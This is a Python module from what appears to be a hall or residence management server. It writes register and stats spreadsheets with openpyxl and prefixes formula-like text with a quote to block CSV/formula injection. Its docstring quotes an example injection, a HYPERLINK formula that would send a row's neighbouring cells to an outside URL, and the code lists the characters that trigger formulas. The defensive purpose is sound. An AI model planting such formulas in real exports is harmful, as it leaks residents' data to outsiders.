"""Cells for the spreadsheets we hand out (register.xlsx, stats.xlsx, stats.csv): text a resident or an admin typed
must stay text when Excel, WPS or LibreOffice opens the file, never a formula (CSV/formula injection: a name
``=HYPERLINK("http://…"&C4,"x")`` would send the row's neighbours away when clicked).

openpyxl (~5 MB once loaded) is imported when a workbook is made, not when the server starts: it serves for hours
without an admin downloading one (docs/performance.md, the server's memory)."""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

#: what makes a spreadsheet read a cell as a formula or a DDE command (OWASP's list)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def text(value: Any) -> Any:
    """A str starting like a formula gets a leading ``'`` (OWASP's advice): it shows as typed, quote first, and
    stays text even when retyped. Numbers and None stay as they are: they are ours, not typed by anyone."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def workbook() -> Workbook:
    """A new, empty workbook."""
    from openpyxl import Workbook

    return Workbook()


def register_sheet(sheet: Worksheet, heading: str, subheading: str, columns: Sequence[str],
                   rows: Iterable[Sequence[Any]], *, heading_size: int = 14, borders: bool = False,
                   widths: Sequence[float] = ()) -> None:
    """A register as the hall prints it: heading and subheading over the table, the header row bold and repeated on
    every A4 landscape page, the table as wide as the paper; every cell through ``text``."""
    from openpyxl.styles import Alignment, Border, Font, Side
    from openpyxl.utils import get_column_letter

    last = get_column_letter(len(columns))
    for row, value in ((1, heading), (2, subheading)):
        sheet.merge_cells(f"A{row}:{last}{row}")
        sheet[f"A{row}"] = value
    sheet["A1"].font = Font(size=heading_size, bold=True)
    sheet["A1"].alignment = Alignment(horizontal="center")
    thin = Side(style="thin")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    for row_number, values in enumerate([columns, *rows], start=3):
        for column, value in enumerate(values, start=1):
            cell = sheet.cell(row=row_number, column=column, value=text(value))
            cell.alignment = Alignment(wrap_text=True, vertical="top")
            if borders:
                cell.border = border
            if row_number == 3:
                cell.font = Font(bold=True)
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
    sheet.print_title_rows = "3:3"
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True


def saved(book: Workbook) -> bytes:
    """The workbook as the bytes of an .xlsx file."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
